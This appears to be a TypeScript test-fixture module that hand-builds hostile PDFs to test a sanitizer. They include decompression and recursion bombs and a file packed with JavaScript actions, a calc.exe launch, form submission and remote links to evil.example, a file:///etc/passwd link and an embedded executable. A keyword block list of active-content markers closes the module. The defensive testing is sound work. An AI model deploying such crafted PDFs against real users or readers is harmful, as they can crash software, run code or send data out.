/** PDFs made to hurt, written by hand byte for byte. */
import { deflateSync } from 'node:zlib';

/** Returns a PDF of numbered objects; a cross-reference table is not needed by readers that mend. */
export function rawPdf(objects: (string | { dict: string; data: Uint8Array })[], root = 1): Uint8Array {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let at = parts[0]!.length;
  const push = (b: Buffer) => {
    parts.push(b);
    at += b.length;
  };
  objects.forEach((o, i) => {
    offsets.push(at);
    if (typeof o === 'string') push(Buffer.from(`${i + 1} 0 obj\n${o}\nendobj\n`, 'latin1'));
    else {
      push(Buffer.from(`${i + 1} 0 obj\n<< /Length ${o.data.length} ${o.dict} >>\nstream\n`, 'latin1'));
      push(Buffer.from(o.data));
      push(Buffer.from('\nendstream\nendobj\n'));
    }
  });
  const xref = at;
  const rows = offsets.map((n) => `${String(n).padStart(10, '0')} 00000 n \n`).join('');
  push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root ${root} 0 R >>\nstartxref\n${xref}\n%%EOF\n`,
    ),
  );
  return new Uint8Array(Buffer.concat(parts));
}

export const stream = (text: string | Uint8Array, dict = '', pack = true) => {
  const data = typeof text === 'string' ? Buffer.from(text, 'latin1') : Buffer.from(text);
  return pack
    ? { dict: `/Filter /FlateDecode ${dict}`, data: new Uint8Array(deflateSync(data)) }
    : { dict, data: new Uint8Array(data) };
};

/** Returns one page with these contents and resources; more objects begin at number 5. */
export function onePage(
  content: string | { dict: string; data: Uint8Array },
  resources = '',
  more: (string | { dict: string; data: Uint8Array })[] = [],
  page = '',
  catalog = '',
): Uint8Array {
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R ${page.includes('/MediaBox') ? '' : '/MediaBox [0 0 612 792]'} /Contents 4 0 R /Resources << ${resources} >> ${page} >>`,
    typeof content === 'string' ? stream(content) : content,
    ...more,
  ]);
}

/** Returns a form that draws itself, twice. */
export const selfDrawing = () =>
  onePage('/F Do', '/XObject << /F 5 0 R >>', [
    stream(
      '/F Do /F Do',
      '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>',
      false,
    ),
  ]);

/** Returns two million strokes in a packed stream. */
export const twoMillionStrokes = () => onePage(stream('0 0 m 9 9 l S\n'.repeat(2_000_000)));

/** Forms that draw forms that draw forms: ten to the ninth. */
export const multiplying = () =>
  onePage(
    '/F Do',
    '/XObject << /F 5 0 R >>',
    Array.from({ length: 9 }, (_, i) =>
      stream(
        i < 8 ? '/F Do '.repeat(10) : '0 0 m 9 9 l S',
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] ${i < 8 ? `/Resources << /XObject << /F ${6 + i} 0 R >> >>` : ''}`,
        false,
      ),
    ),
  );

/** Returns a content stream that unpacks to 400 MB of blanks. */
export const bomb = () => onePage(stream(new Uint8Array(400 * 1024 * 1024).fill(32)));

/**
 * Returns a page with every kind of active content, in direct and indirect objects, in chains, on pages and
 * annotations.
 */
export function activePaper(): Uint8Array {
  const js = (n: number) => `<< /S /JavaScript /JS (app.alert\\(${n}\\)) >>`;
  const chain = `<< /S /URI /URI (https://example.com/ok) /Next [ ${js(1)} << /S /Launch /F (calc.exe) /Next ${js(2)} >> ] >>`;
  const annot = (s: string) => `<< /Type /Annot /Rect [10 10 60 30] ${s} >>`;
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js(3)} /AA << /WC ${js(4)} /DP 11 0 R >>
       /Names << /JavaScript << /Names [(x) ${js(5)}] >> /EmbeddedFiles << /Names [(secret.exe) 12 0 R] >> /Dests << /Names [(here) [3 0 R /Fit]] >> >>
       /AcroForm << /XFA [(template) 13 0 R] /Fields [14 0 R] /CO [14 0 R] >> /AF [12 0 R]
       /OCProperties << /OCGs [15 0 R 16 0 R] /D << /OFF [15 0 R] /AS [<< /Event /Print /OCGs [16 0 R] /Category [/Print] >>] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 /AA << /O 11 0 R >> >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R
       /Resources << /Font << /F1 5 0 R >> /Properties << /Off 15 0 R /On 16 0 R >> /XObject << /PS1 18 0 R >> >>
       /AA << /O ${js(6)} /C 11 0 R >> /PieceInfo << /App << /Private (hidden words) >> >> /Metadata 17 0 R /AF [12 0 R]
       /Annots [ ${annot(`/Subtype /Link /A ${chain}`)} ${annot('/Subtype /Link /A 11 0 R')} ${annot('/Subtype /Link /Dest (here)')}
         ${annot('/Subtype /Link /A << /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>')}
         ${annot('/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>')}
         ${annot('/Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >>')}
         ${annot('/Subtype /Link /A << /S /URI /URI (mailto:desk@example.com) >>')}
         ${annot('/Subtype /Link /A << /S /GoToE /T << /R /C /N (secret.exe) >> >>')}
         ${annot(`/Subtype /Screen /A << /S /Rendition /OP 0 /JS (x) >> /AA << /PV ${js(7)} >>`)}
         ${annot(`/Subtype /Widget /FT /Btn /Ff 65536 /T (push) /PA ${js(8)} /A << /S /SubmitForm /F (http://evil.example) >>`)}
         ${annot('/Subtype /FileAttachment /FS 12 0 R /Contents (take me)')} ${annot('/Subtype /RichMedia /RichMediaContent << >>')}
         ${annot('/Subtype /3D /3DD 17 0 R')} ${annot('/Subtype /Movie /Movie << /F (x.avi) >>')} ${annot('/Subtype /Sound /Sound 17 0 R')}
         ${annot(`/Subtype /Square /F 32 /AP << /N 19 0 R >> /A ${js(9)}`)}
         ${annot(`/Subtype /Stamp /F 4 /AP << /N 20 0 R /D 19 0 R >> /AA << /E ${js(10)} >>`)} ] >>`,
    stream(
      'BT /F1 24 Tf 72 700 Td (Seen by all) Tj ET /OC /Off BDC BT /F1 24 Tf 72 600 Td (Layer off) Tj ET 72 500 99 20 re f EMC /OC /On BDC BT /F1 24 Tf 72 400 Td (Layer on) Tj ET EMC /PS1 Do',
    ),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< >>',
    '<< >>',
    '<< >>',
    '<< >>',
    '<< >>',
    js(11),
    '<< /Type /Filespec /F (secret.exe) /EF << /F 17 0 R >> >>',
    stream('<xdp:xdp>dynamic form</xdp:xdp>', '', false),
    `<< /FT /Tx /T (field) /V (typed) /Kids [] /AA << /K ${js(12)} >> >>`,
    '<< /Type /OCG /Name (Off) >>',
    '<< /Type /OCG /Name (On) /Usage << /Print << /PrintState /OFF >> >> >>',
    stream('embedded evil payload', '/Type /EmbeddedFile', false),
    stream('/Helvetica findfont', '/Type /XObject /Subtype /PS', false),
    stream('0 0 50 20 re f', '/Type /XObject /Subtype /Form /BBox [0 0 50 20]', false),
    stream(
      'BT /F1 9 Tf 2 6 Td (Stamped) Tj ET',
      '/Type /XObject /Subtype /Form /BBox [0 0 50 20] /Resources << /Font << /F1 5 0 R >> >>',
      false,
    ),
  ]);
}

/** Words no cleaned file may hold, in any stream of it. */
export const ACTIVE_WORDS = [
  'JavaScript',
  '/JS',
  'app.alert',
  'Launch',
  'calc.exe',
  'GoToR',
  'GoToE',
  'SubmitForm',
  'ImportData',
  'Rendition',
  '/AA',
  '/OpenAction',
  '/Next',
  '/PA ',
  'EmbeddedFile',
  'secret.exe',
  'evil',
  'XFA',
  'dynamic form',
  'javascript:',
  'file:',
  'PieceInfo',
  'hidden words',
  'RichMedia',
  '/3D',
  '/Movie',
  '/Sound',
  'Layer off',
  '/AF',
];
